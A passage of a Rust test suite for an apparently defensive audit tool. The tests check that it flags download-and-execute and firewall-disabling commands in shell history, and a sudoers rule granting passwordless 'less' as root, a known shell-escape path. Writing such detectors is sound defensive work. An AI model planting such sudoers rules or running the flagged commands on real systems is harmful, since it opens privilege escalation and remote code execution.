        ids.contains(&("history.firewall-disable", "root")),
        "{ids:?}"
    );
    assert_eq!(v["commands_total"], 4);
    assert!(!j.stdout_text().contains("S3cret"));
    // --user and --all: every line of one user, in text.
    let a = run_in(
        manifest_dir(),
        &[
            OsStr::new("history"),
            OsStr::new("--root"),
            root,
            OsStr::new("--user"),
            OsStr::new("ann"),
            OsStr::new("--all"),
        ],
    );
    assert_eq!(a.code, 1, "{}", a.stderr);
    let text = a.stdout_text();
    assert!(text.contains("/home/ann/.bash_history:1: ann ls"), "{text}");
    assert!(text.contains("  [download-execute"), "{text}");
    // One finding per problem: the download inside a download-and-run is not a second one.
    assert!(!text.contains("history.download:"), "{text}");
    assert!(!text.contains("iptables"), "{text}");
    assert!(
        a.stderr
            .contains("read /home/ann/.bash_history [bash]: 3 commands"),
        "{}",
        a.stderr
    );
}

#[test]
fn accounts_sudoers_lists_findings_and_a_users_rules() {
    let t = tempfile::tempdir().unwrap();
    let etc = t.path().join("etc");
    std::fs::create_dir_all(etc.join("sudoers.d")).unwrap();
    std::fs::write(
        etc.join("passwd"),
        "root:x:0:0::/root:/bin/bash\nbob:x:1001:1001::/home/bob:/bin/bash\n",
    )
    .unwrap();
    std::fs::write(
        etc.join("group"),
        "root:x:0:\nbob:x:1001:\nops:x:2000:bob\n",
    )
    .unwrap();
    std::fs::write(
        etc.join("sudoers"),
        "root ALL=(ALL:ALL) ALL\n@includedir /etc/sudoers.d\n",
    )
    .unwrap();
    std::fs::write(
        etc.join("sudoers.d/ops"),
        "%ops ALL=(root) NOPASSWD: /usr/bin/less /var/log/syslog\n",
    )
    .unwrap();
    let root = t.path().to_str().unwrap();
    let r = run(&["accounts", "sudoers", "--root", root, "--json"]);
    let v = json_run(&r);
    assert_eq!(r.code, status_of(&v), "{}", r.what);
    assert_eq!(r.code, 1, "{v}");
    let f = v["findings"].as_array().unwrap();
    assert!(
        f.iter()
            .any(|f| f["id"] == "accounts.sudoers-shell" && f["subject"] == "%ops"),
        "{v}"
    );
    let r = run(&["accounts", "sudoers", "--root", root, "--user", "bob"]);
    assert_eq!(r.code, 0, "{}: {}", r.what, r.stderr);
    assert_eq!(
        r.stdout_text().trim(),
        "/etc/sudoers.d/ops:1: ALL = (root : ) NOPASSWD: /usr/bin/less /var/log/syslog"
    );
}
